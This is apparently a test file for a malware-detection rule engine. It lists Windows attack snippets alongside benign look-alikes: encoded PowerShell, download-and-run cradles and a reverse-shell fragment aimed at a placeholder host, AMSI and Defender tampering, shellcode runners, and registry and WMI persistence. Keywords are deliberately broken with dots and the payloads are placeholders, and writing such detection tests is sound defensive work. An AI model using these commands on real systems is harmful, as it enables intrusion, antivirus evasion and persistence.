/** Specifies the bundled rules: what each family finds, where it is underlined, and which honest scripts stay quiet. */

import assert from 'node:assert/strict';
import type { RuleEngine, RuleHit } from '../../../src/engines/model';
import { example, layersOf, openEngine, ruleFiles } from './support';

/** `[rule, example]`; see `example` for the marks. */
type Hostile = readonly [rule: string, marked: string];
/** `[what it is, script, rules that may still hit]`: none of these may be an error. */
type Honest = readonly [title: string, marked: string, allowed?: readonly string[]];

const base64 = Buffer.from('Write-Output "harmless, only a test"', 'utf16le').toString('base64');
const zip = 'H4sIAAAAAAAA/harmless';

const families: Record<string, { hostile: readonly Hostile[]; honest: readonly Honest[] }> = {
  encoded_command: {
    hostile: [
      ['PowerShell_EncodedCommand', `«power·shell -Enc·odedCommand ${base64}»`],
      ['PowerShell_EncodedCommand', `cmd /c «power·shell.exe -NoP -NonI -e ${base64}» & exit`],
      ['PowerShell_EncodedCommand', `«pw·sh /ec ${base64}»`],
      ['PowerShell_EncodedCommand', `«power·shell –enc·od ${base64}»`],
      ['PowerShell_HiddenEncodedCommand', `start «power·shell -nop -w hid·den -enc ${base64}»`],
      [
        'PowerShell_HiddenEncodedCommand',
        `«POWER·SHELL.EXE -WindowStyle Hid·den -NoProfile -Enc·odedCommand ${base64}»`,
      ],
      [
        'PowerShell_DecodeAndRun',
        `«I·EX ([Text.Encoding]::UTF8.GetString([Convert]::From·Base64String(»'${base64}')))`,
      ],
      [
        'PowerShell_DecodeAndRun',
        `[Text.Encoding]::UTF8.GetString([Convert]«::From·Base64String('${base64}')) | i·ex»`,
      ],
      [
        'PowerShell_DecodeToScriptBlock',
        `& («[scriptblock]::Cre·ate([Text.Encoding]::Unicode.GetString([Convert]::FromBase·64String(»$x))))`,
      ],
      [
        'PowerShell_DecompressAndRun',
        `$m = [IO.MemoryStream][Convert]::From·Base64String('${zip}')\n$g = New-Object «IO.Compression.Gzip·Stream(»$m, 0)\ni·ex $t`,
      ],
      [
        'PowerShell_DecompressAndRunInOneLine',
        `«I·EX (New-Object IO.StreamReader((New-Object IO.Compression.Gzip·Stream([IO.MemoryStream][Convert]::From·Base64String(»'${zip}'),0)))).ReadToEnd()`,
      ],
      ['PowerShell_CharacterCodesRun', `«i·ex ([char[]]»(87,114,105) -join '')`],
      ['PowerShell_CharacterCodesRun', `«[char[]](87,114,105) -join '' | Invoke-Expr·ession»`],
      ['PowerShell_HiddenInvokeExpression', `& («$env:Com·Spec[4,24,»25]-join'') 'hello'`],
      ['PowerShell_HiddenInvokeExpression', `& («$PSHo·me[4]+$»PSHome[34]+'x') 'hello'`],
      ['PowerShell_HiddenInvokeExpression', `.(«$Verbose·Preference.ToString()[1,3]»+'x'-join'')`],
    ],
    honest: [
      [
        'a script run by its file',
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -File .\\build.ps1 -Environment production',
      ],
      [
        'an encoding parameter',
        'powershell -File .\\convert.ps1 -Encoding UTF8 SomeVeryLongFileNameWithoutSpaces',
      ],
      [
        'an embedded picture',
        `$icon = [Convert]::FromBase64String('${base64}')\n[IO.File]::WriteAllBytes('icon.ico', $icon)`,
      ],
      [
        'a gzip reader that runs nothing',
        '$s = New-Object IO.Compression.GzipStream($file, [IO.Compression.CompressionMode]::Decompress)',
      ],
      ['a character table', "$letters = [char[]](65..90) -join ','"],
      [
        'a look at the shell',
        "Write-Host $PSHome; Write-Host $env:ComSpec; $parts = $env:Path.Split(';')[0]",
      ],
      [
        'a deployment tool',
        `powershell -NoProfile -NonInteractive -EncodedCommand ${base64}`,
        ['PowerShell_EncodedCommand'],
      ],
    ],
  },
  download_cradle: {
    hostile: [
      [
        'PowerShell_PlainHttpCradle',
        `«I·EX (New-Object Net.Web·Client).Download·String('http://a.invalid/x.ps1')»`,
      ],
      ['PowerShell_PlainHttpCradle', '«i·ex(i·wr http://a.invalid/x» -UseBasicParsing).Content'],
      ['PowerShell_PlainHttpCradle', `«i·rm http://a.invalid/x | i·ex»`],
      [
        'PowerShell_DownloadCradle',
        `(«New-Object Net.Web·Client).Download·String('https://a.invalid/x') | I·EX»`,
      ],
      [
        'PowerShell_DownloadCradle',
        `«[scriptblock]::Cre·ate((New-Object System.Net.Web·Client).Download·String("https://a.invalid/x")»).Invoke()`,
      ],
      ['PowerShell_DownloadCradle', `«i·wr -useb https://a.invalid/install.ps1 | i·ex»`],
      ['PowerShell_DownloadCradle', `«i·ex "& { $(i·rm https://a.invalid/install.ps1») } -Quiet"`],
      [
        'PowerShell_DownloadThenRun',
        `$wc = New-Object Net.WebClient\n«$s = $wc.Download·String("https://a.invalid/x")»\nInvoke-Expr·ession $s`,
      ],
      [
        'PowerShell_ComDownloadAndRun',
        `$h = New-Object «-ComObject Msxml2.XML·HTTP»\n$h.open('GET','https://a.invalid',$false); $h.send()\ni·ex $h.responseText`,
      ],
      [
        'PowerShell_ReverseShell',
        `$c = «New-Object System.Net.Sock·ets.TCPClient»('a.invalid',4444)\n$s = $c.GetSt·ream()\n$r = (i·ex $d 2>&1 | Out-String)\n$s.Write($b,0,1)`,
      ],
      ['System_RemoteScriptProxy', `«msh·ta.exe https://a.invalid/x.hta»`],
      ['System_RemoteScriptProxy', `«msh·ta vbscr·ipt:Close(Execute(»"x"))`],
      ['System_RemoteScriptProxy', `«regs·vr32 /s /n /u /i:http://a.invalid/x.sct scr·obj.dll»`],
      ['System_RemoteScriptProxy', `«run·dll32.exe javascr·ipt:»"\\..\\mshtml,RunHTMLApplication "`],
      ['System_CertutilDownload', `«cert·util -url·cache -split -f https://a.invalid/x.exe» x.exe`],
    ],
    honest: [
      ['a module installed', 'Install-Module -Name Pester -Scope CurrentUser -Force'],
      [
        'a file downloaded',
        "Invoke-WebRequest -Uri 'https://a.invalid/tool.zip' -OutFile tool.zip\nExpand-Archive tool.zip",
      ],
      [
        'an API asked',
        "$r = Invoke-RestMethod -Uri 'http://a.invalid/api' | Select-Object -ExpandProperty items",
      ],
      [
        'text downloaded and parsed',
        "$json = (New-Object Net.WebClient).DownloadString('https://a.invalid/v.json') | ConvertFrom-Json",
      ],
      [
        'an installer downloaded and started',
        "(New-Object Net.WebClient).DownloadFile('https://a.invalid/s.msi', $msi)\nStart-Process msiexec -ArgumentList '/i', $msi -Wait",
      ],
      [
        'a package manager installed as its page says',
        `i·ex ((New-Object System.Net.Web·Client).Download·String('https://a.invalid/install.ps1'))`,
        ['PowerShell_DownloadCradle'],
      ],
      ['a command line run', `Invoke-Expression "curl -sSL https://a.invalid/x.zip -o x.zip"`],
      [
        'a port tested',
        '$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect("a.invalid", 443)\n$c.Close()',
      ],
      ['a library registered', 'regsvr32 /s mylib.dll'],
      ['certificates checked', 'certutil -verify -urlfetch cert.cer'],
      ['a local HTML application', 'mshta.exe C:\\tools\\menu.hta'],
    ],
  },
  assembly_load: {
    hostile: [
      [
        'PowerShell_AssemblyFromBytes',
        `«[Reflection.Ass·embly]::Load([Convert]::From·Base64String»('TVqQ')) | Out-Null`,
      ],
      [
        'PowerShell_AssemblyFromBytes',
        `$a = «[System.Reflection.Ass·embly]::Load((New-Object Net.Web·Client).Download·Data(»'https://a.invalid/x.dll'))`,
      ],
      [
        'PowerShell_AssemblyFromBytes',
        `[AppDomain]::«Current·Domain.Load([Convert]::From·Base64String(»$x))`,
      ],
      [
        'PowerShell_AssemblyEntryPoint',
        `$a = [Reflection.Ass·embly]::Load($b)\n$a«.Entry·Point.Invoke(»$null, @(,@()))`,
      ],
      [
        'PowerShell_AssemblyFromText',
        `$b = [Convert]::From·Base64String($t)\n$a = «[Reflection.Ass·embly]::Load($b»)\n$a.GetType('A.B').GetMethod('C').Invoke($null, @())`,
      ],
      [
        'WSH_SerializedAssembly',
        `var f = new «Active·XObject('System.Runtime.Serialization.Formatters.Binary.Binary·Formatter'»);\nvar d = f.Deser·ialize_2(s);`,
      ],
      [
        'WSH_SerializedAssembly',
        `Set f = «Create·Object("System.Runtime.Serialization.Formatters.Binary.Binary·Formatter"»)\nSet d = f.Deser·ialize_2(s)`,
      ],
    ],
    honest: [
      [
        'assemblies by name',
        'Add-Type -AssemblyName System.Windows.Forms\n[void][Reflection.Assembly]::LoadWithPartialName("System.Drawing")',
      ],
      [
        'an assembly by file',
        "[Reflection.Assembly]::LoadFile('C:\\tools\\lib.dll')\n[Reflection.Assembly]::LoadFrom($path)",
      ],
      [
        'an assembly read first, so as not to lock its file',
        '$a = [Reflection.Assembly]::Load([IO.File]::ReadAllBytes($dll))',
      ],
      [
        'an assembly by full name',
        "[Reflection.Assembly]::Load('System.Web, Version=4.0.0.0, Culture=neutral')",
      ],
      ['C# compiled', "Add-Type -TypeDefinition 'public class A { public static int B() { return 1; } }'"],
    ],
  },
  shellcode_runner: {
    hostile: [
      [
        'PowerShell_ShellcodeRunner',
        `$m = $va.Invoke(0, 4096, 0x3000, 0x40) # Virtual·Alloc\n[Runtime.InteropServices.Mar·shal]::Copy($b, 0, $m, $b.Length)\n$f = «[System.Runtime.InteropServices.Mar·shal]::GetDelegateFor·FunctionPointer»($m, $t)`,
      ],
      [
        'PowerShell_ReflectedNativeMethods',
        `$t = $a.GetType(«'Microsoft.Win32.Unsafe·NativeMethods'»)\n$t.GetMethod('GetProc·Address'); $t.GetMethod('GetModule·Handle')`,
      ],
      [
        'PowerShell_DynamicDelegate',
        `$d = [AppDomain]::CurrentDomain.DefineDynamic·Assembly($n, 'Run')\n$t = $d.DefineDynamicModule('M', $false)«.DefineType('D', 'Class, Public', [System.Multicast·Delegate]»)\n$g::GetDelegateFor·FunctionPointer($p, $t)`,
      ],
      [
        'Native_ShellcodeRunner',
        `[DllImport("kernel32")] static «ext·ern IntPtr Virtual·Alloc(»IntPtr a, uint b);\n[DllImport("kernel32")] static ext·ern IntPtr Create·Thread(IntPtr a);\nMar·shal.Copy(buf, 0, p, n);`,
      ],
      [
        'Office_ShellcodeRunner',
        `Private Declare PtrSafe Function A Lib "kernel32" Alias "«Virtual·Alloc»" (ByVal x As Long) As LongPtr\nPrivate Declare PtrSafe Function B Lib "kernel32" Alias "RtlMove·Memory" (x As Any) As LongPtr\nPrivate Declare PtrSafe Function C Lib "kernel32" Alias "Create·Thread" (x As Any) As LongPtr`,
      ],
      ['Shellcode_Prologue', `[Byte[]] $buf = «0xf·c,0x48,0x83,0xe4,0xf·0»,0xe8,0xc0`],
      ['Shellcode_Prologue', `buf = Array(«252,72,131,228,2·40»,232)`],
      ['Shellcode_Prologue', `$b = '«/EiD5·PDo»yAAAAEFRQVBSUVZ'`],
    ],
    honest: [
      [
        'a window moved by a Windows function',
        `Add-Type -MemberDefinition '[DllImport("user32.dll")] public static extern bool ShowWindow(IntPtr h, int c);' -Name W -Namespace N`,
      ],
      ['a structure copied', '[Runtime.InteropServices.Marshal]::Copy($ptr, $bytes, 0, 16)'],
      ['bytes of a picture', '[byte[]]$png = 0x89,0x50,0x4e,0x47,0x0d,0x0a,0x1a,0x0a'],
      ['a VBA timer', 'Private Declare PtrSafe Function GetTickCount Lib "kernel32" () As Long'],
    ],
  },
  reflective_injection: {
    hostile: [
      [
        'Native_RemoteProcessInjection',
        `$a = Virtual·AllocEx $h; Write·ProcessMemory $h $a\n«CreateRemote·Thread» $h $a`,
      ],
      [
        'Native_ProcessHollowing',
        `«ZwUnmap·ViewOfSection»(h, b); WriteProcess·Memory(h, b); Resume·Thread(t);`,
      ],
      [
        'PowerShell_ReflectiveLoader',
        `$h = $dos.e_lf·anew\n$m = $W.«Virtual·Alloc».Invoke(0, $PE.SizeOf·Image, 1, 4)\n$p = $W.GetProc·Address.Invoke($m, 'x')`,
      ],
      ['PowerShell_InjectionFunction', `«Invoke-Reflective·PEInjection» -PEBytes $b`],
      ['PowerShell_InjectionFunction', `$e = Find-Export '«Reflective·Loader»'`],
    ],
    honest: [
      [
        'a header read',
        '$peOffset = [BitConverter]::ToInt32($bytes, 0x3c) # e_lfanew\n$sizeOfImage = [BitConverter]::ToInt32($bytes, $peOffset + 80)',
      ],
      [
        'a process opened',
        '[DllImport("kernel32")] static extern IntPtr OpenProcess(uint a, bool b, int c);',
      ],
      ['a command invoked elsewhere', 'Invoke-Command -ComputerName a.invalid -ScriptBlock { Get-Process }'],
    ],
  },
  amsi_tampering: {
    hostile: [
      ['AMSI_InitFailedField', `$t.GetField('«amsiInit·Failed»','NonPublic,Static').SetValue($null,$true)`],
      ['AMSI_UtilsReflection', `«[R·ef].Assembly.GetType('System.Management.Automation.Amsi·Utils»')`],
      ['AMSI_UtilsReflection', `$u = $types | ? { $_.Name «-like "*i·Utils"» }`],
      [
        'AMSI_ContextOverwritten',
        `$f = $t.GetField('«amsi·Context»','NonPublic,Static')\n[Runtime.InteropServices.Mar·shal]::WriteInt32($f.GetValue($null), 0x41)`,
      ],
      [
        'AMSI_FunctionPatched',
        `$p = Get-It '«ams·i.dll»' 'AmsiScan·Buffer' # GetProc·Address\nVirtual·Protect $p 5 0x40`,
      ],
      [
        'AMSI_SwitchedOffForScriptHost',
        `«Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' -Name Amsi·Enable -Value 0»`,
      ],
      [
        'AMSI_SwitchedOffForScriptHost',
        `«reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v Amsi·Enable /t REG_DWORD /d 0» /f`,
      ],
      [
        'AMSI_SwitchedOffForScriptHost',
        `sh«.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows Script\\\\Settings\\\\Amsi·Enable", 0», "REG_DWORD");`,
      ],
      [
        'AMSI_SwitchedOffForScriptHost',
        `[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows Script\\Settings]\n«"Amsi·Enable"=dword:00000000»`,
      ],
      [
        'AMSI_ProviderRemoved',
        `«Remove-Item -Path 'HKLM:\\SOFTWARE\\Microsoft\\AM·SI\\Providers»\\{2781761E-28E0-4109-99FE-B9D127C57AFE}'`,
      ],
      [
        'AMSI_ProviderRemoved',
        `New-Item '«HKCU:\\Software\\Classes\\CLSID\\{fdb00e52·-a214-4aa1-8fba-4357bb0072ec}»\\InprocServer32'`,
      ],
      [
        'PowerShell_LoggingSwitchedOff',
        `$g = $a.GetField(«'cachedGroup·PolicySettings'»,'NonPublic,Static')\n$g['EnableScript·BlockLogging'] = 0`,
      ],
      ['PowerShell_VersionDowngrade', `«power·shell -ver·sion 2» -c "x"`],
    ],
    honest: [
      [
        'the setting read',
        "Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' -Name AmsiEnable",
      ],
      [
        'AMSI switched on',
        "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows Script\\Settings' -Name AmsiEnable -Value 1",
      ],
      [
        'AMSI called for a check',
        '[DllImport("amsi.dll")] static extern int AmsiScanBuffer(IntPtr c, byte[] b, uint n, string s, IntPtr h, out int r);',
      ],
      ['providers listed', "Get-ChildItem 'HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers'"],
      ['logging switched on', 'Set-ItemProperty $key -Name EnableScriptBlockLogging -Value 1'],
      ['a version asked for', 'powershell -Version 5.1 -File .\\x.ps1\n#requires -Version 2'],
    ],
  },
  defender_tampering: {
    hostile: [
      ['Defender_ProtectionSwitchedOff', `«Set-Mp·Preference -DisableRealtime·Monitoring $true»`],
      ['Defender_ProtectionSwitchedOff', `«set-mp·preference -DisableBehavior·Monitoring:$true»`],
      ['Defender_ScriptScanningSwitchedOff', `«Set-Mp·Preference -DisableScript·Scanning 1»`],
      [
        'Defender_ScriptScanningSwitchedOff',
        `«reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection" /v DisableScript·Scanning /t REG_DWORD /d 1» /f`,
      ],
      [
        'Defender_PolicySwitchedOff',
        `«Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAnti·Spyware -Value 1»`,
      ],
      [
        'Defender_PolicySwitchedOff',
        `«New-ItemProperty $p -Name 'DisableAnti·Spyware' -PropertyType DWord -Value 1»`,
      ],
      [
        'Defender_PolicySwitchedOff',
        `s«.RegWrite "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAnti·Spyware", 1», "REG_DWORD"`,
      ],
      ['Defender_PolicySwitchedOff', `«"DisableRealtime·Monitoring"=dword:00000001»`],
      ['Defender_Exclusion', `«Add-Mp·Preference -Exclusion·Path 'C:\\Build\\Output'»`],
      ['Defender_ExcludesEverything', `«Add-Mp·Preference -Exclusion·Path 'C:\\' »-Force`],
      ['Defender_ExcludesEverything', `«Add-Mp·Preference -Exclusion·Extension ".exe»"`],
      ['Defender_Weakened', `«Set-Mp·Preference -MAPS·Reporting Disabled»`],
      ['Defender_ServiceStopped', `«sc.exe stop Win·Defend»`],
      ['Defender_ServiceStopped', `«Set-Service -Name Win·Defend -StartupType Disabled»`],
      [
        'Defender_DefinitionsRemoved',
        `& "$env:ProgramFiles\\Windows Defender\\«MpCmd·Run.exe" -Remove·Definitions -All»`,
      ],
      ['Defender_Uninstalled', `«Uninstall-Windows·Feature -Name Windows-Def·ender»`],
    ],
    honest: [
      [
        'the settings read',
        'Get-MpPreference | Select-Object DisableRealtimeMonitoring, DisableScriptScanning, ExclusionPath',
      ],
      [
        'protection switched on',
        'Set-MpPreference -DisableRealtimeMonitoring $false -DisableScriptScanning $false -MAPSReporting Advanced',
      ],
      [
        'a policy checked',
        "if ((Get-ItemProperty $k).DisableAntiSpyware -eq 1) { Write-Warning 'Defender is off' }",
      ],
      [
        'the service asked for',
        'Get-Service WinDefend; Start-Service -Name WinDefend; sc.exe query windefend',
      ],
      ['signatures updated', 'Update-MpSignature; & "$p\\MpCmdRun.exe" -SignatureUpdate'],
      ['a build folder excluded', "Add-MpPreference -ExclusionPath 'D:\\src\\out'", ['Defender_Exclusion']],
      ['another service stopped', 'Stop-Service -Name Spooler; Set-Service wuauserv -StartupType Disabled'],
    ],
  },
  wmi_persistence: {
    hostile: [
      [
        'WMI_EventConsumerCreated',
        `$c = «Set-Wmi·Instance -Namespace root\\subscription -Class CommandLine·EventConsumer» -Arguments @{ Name = 'x' }`,
      ],
      [
        'WMI_EventConsumerCreated',
        `$c = («[wmi·class]"\\\\.\\root\\subscription:ActiveScript·EventConsumer»").CreateInstance()`,
      ],
      ['WMI_EventConsumerCreated', `Set c = s«.Get("ActiveScript·EventConsumer").Spawn·Instance_»`],
      ['WMI_EventConsumerCreated', `«instance of CommandLine·EventConsumer» as $C { Name = "x"; };`],
      [
        'WMI_EventSubscription',
        `$class = '«CommandLine·EventConsumer»'\n$f = New-Cim·Instance -ClassName __Event·Filter @a\n$c = New-Cim·Instance -ClassName $class @b\nNew-Cim·Instance -ClassName __FilterTo·ConsumerBinding @d`,
      ],
      [
        'WMI_FilterBound',
        `«New-Cim·Instance -Namespace root/subscription -ClassName __FilterTo·ConsumerBinding»`,
      ],
    ],
    honest: [
      [
        'an inventory',
        'Get-WmiObject -Namespace root\\subscription -Class __EventFilter\nGet-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer\nGet-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding',
      ],
      [
        'a removal',
        'Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer -Filter "Name=\'x\'" | Remove-WmiObject',
      ],
      [
        'a temporary event',
        'Register-CimIndicationEvent -ClassName Win32_ProcessStartTrace -SourceIdentifier p',
      ],
      ['another instance', "New-CimInstance -ClassName Win32_Environment -Property @{ Name = 'a' }"],
    ],
  },
  run_key_persistence: {
    hostile: [
      [
        'RunKey_Written',
        `«Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\Current·Version\\Run»' -Name x -Value 'C:\\x.exe'`,
      ],
      [
        'RunKey_Written',
        `«$k = 'HKCU:\\Software\\Microsoft\\Windows\\Current·Version\\Run'»\nNew-ItemProperty -Path $k -Name x -Value y`,
      ],
      [
        'RunKey_Written',
        `«REG ADD HKCU\\Software\\Microsoft\\Windows\\Current·Version\\RunOnce» /v x /d c:\\x.exe`,
      ],
      [
        'RunKey_StartsScriptHost',
        `sh«.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\Current·Version\\\\Run\\\\x", "wscr·ipt» c:\\\\x.js");`,
      ],
      [
        'RunKey_StartsScriptHost',
        `«[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\Current·Version\\Run]\r\n"x"="msh·ta» c:\\\\x.hta"`,
      ],
      [
        'RunKey_StartsHiddenCode',
        `reg add HKCU\\Software\\Microsoft\\Windows«\\Current·Version\\Run /v x /d "power·shell -w hidden -enc ${base64.slice(0, 20)}»"`,
      ],
      [
        'RunKey_StartsHiddenCode',
        `Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows«\\Current·Version\\Run -Name x -Value 'msh·ta javascr·ipt:»close()'`,
      ],
      [
        'StartupFolder_Written',
        `«Copy-Item x.lnk "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Start·up»\\x.lnk"`,
      ],
      [
        'StartupFolder_Written',
        `p = sh.«SpecialFold·ers("Startup")»\nfso.CopyFile WScript.ScriptFullName, p & "\\x.vbs"`,
      ],
    ],
    honest: [
      [
        'the key read',
        "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' | Format-List",
      ],
      [
        'an entry removed',
        "Remove-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name OneDrive",
      ],
      ['the key queried', 'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
      [
        'another key written',
        "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System' -Name x -Value 1",
      ],
      [
        'a tray program registered',
        "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Tray -Value 'C:\\Program Files\\Tray\\tray.exe'",
        ['RunKey_Written'],
      ],
    ],
  },
  wsh_dropper: {
    hostile: [
      [
        'WSH_DownloadSaveRun',
        `var h = new Active·XObject("MSXML2.XML·HTTP");\nvar s = new Active·XObject("ADO·DB.Stream");\ns«.SaveTo·File»(p, 2);\nnew ActiveXObject("WScript.Shell").Run(p, 0);`,
      ],
      [
        'WSH_DownloadSaveRun',
        `Set h = Create·Object("WinHttp.WinHttp·Request.5.1")\nSet s = Create·Object("ADO·DB.Stream")\ns«.SaveTo·File» p, 2\nsh.Run p, 0`,
      ],
      ['WSH_DownloadAndEvaluate', `h.send(); «ev·al(h.response·Text»);`],
      ['WSH_DownloadAndEvaluate', `«Execute·Global http.response·Text»`],
      ['WSH_DownloadAndEvaluate', `«Get·Object("script:https://a.invalid/x.sct»")`],
      ['WSH_RunsHiddenPowerShell', `sh«.Run "power·shell -w hidden -enc ${base64.slice(0, 20)}»", 0`],
      [
        'WSH_RunsHiddenPowerShell',
        `sh«.Run("cmd /c power·shell -c (New-Object Net.WebClient).Download·File»('https://a.invalid/x','x')", 0);`,
      ],
      ['WSH_CharacterCodesRun', `«Execute Chr(»77) & Chr(115)`],
      ['WSH_CharacterCodesRun', `«ev·al(String.from·CharCode(»118,97))`],
      [
        'WSH_UnpackSaveRun',
        `e.dataType = "bin.base·64": b = e.nodeTyped·Value\nst«.SaveTo·File» p, 2\nsh.Run p`,
      ],
      [
        'WSH_ProcessThroughWmi',
        `Set w = «Get·Object("winmgmts:\\\\.\\root\\cimv2:Win32_Pro·cess")»\nw.Create "power·shell -f x.ps1", Null, Null, p`,
      ],
    ],
    honest: [
      [
        'a drive mapped',
        'Set n = CreateObject("WScript.Network")\nn.MapNetworkDrive "H:", "\\\\server\\home"',
      ],
      ['a program started', 'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True'],
      [
        'a page fetched',
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://a.invalid", False\nh.Send\nWScript.Echo h.responseText',
      ],
      ['a script run by its file', 'sh.Run "powershell -ExecutionPolicy Bypass -File c:\\tools\\a.ps1", 0'],
      [
        'a text saved as UTF-8',
        'Set s = CreateObject("ADODB.Stream")\ns.WriteText t\ns.SaveToFile "a.txt", 2',
      ],
      [
        'processes listed',
        'Set l = GetObject("winmgmts:\\\\.\\root\\cimv2").ExecQuery("select * from Win32_Process")',
      ],
    ],
  },
};

describe('bundled rules', () => {
  let engine: RuleEngine;
  before(() => {
    engine = openEngine();
  });
  after(() => {
    engine.dispose();
  });
  const scan = (text: string): RuleHit[] => engine.scan(layersOf(text));

  for (const [family, { hostile, honest }] of Object.entries(families)) {
    describe(family, () => {
      for (const [rule, marked] of hostile) {
        const { text, start, end } = example(marked);
        it(`${rule} underlines ${marked.slice(0, 60).replaceAll(/\s+/g, ' ')}`, () => {
          const hits = scan(text);
          const hit = hits.find((one) => one.rule.name === rule);
          assert.ok(hit, `${rule} is not among ${hits.map((one) => one.rule.name).join(', ') || 'no hits'}`);
          const first = hit.ranges[0];
          assert.equal(text.slice(first?.start, first?.end), text.slice(start, end));
          assert.deepEqual(first, { start, end });
        });
      }
      for (const [title, marked, allowed = []] of honest) {
        it(`leaves alone ${title}`, () => {
          const hits = scan(example(marked).text);
          assert.deepEqual(
            hits.map((one) => one.rule.name),
            allowed,
          );
          assert.ok(hits.every((one) => one.rule.severity !== 'error'));
        });
      }
    });
  }

  it('finds machine code in a byte layer', () => {
    const hits = engine.scan(layersOf(Uint8Array.of(1, 0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 2)));
    assert.deepEqual(
      hits.map((hit) => [hit.rule.name, hit.ranges]),
      [['Shellcode_Prologue', [{ start: 1, end: 7 }]]],
    );
  });

  it('has an example of every rule', () => {
    const names = ruleFiles.flatMap(({ source }) =>
      [...source.matchAll(/^rule (\w+)/gm)].map((match) => match[1]),
    );
    const shown = new Set(Object.values(families).flatMap(({ hostile }) => hostile.map(([rule]) => rule)));
    assert.deepEqual(
      names.filter((name) => !shown.has(name ?? '')),
      [],
    );
  });

  it('has a family for every file', () => {
    assert.deepEqual(
      ruleFiles.map(({ name }) => name.replace('.yar', '')),
      Object.keys(families).sort(),
    );
  });
});
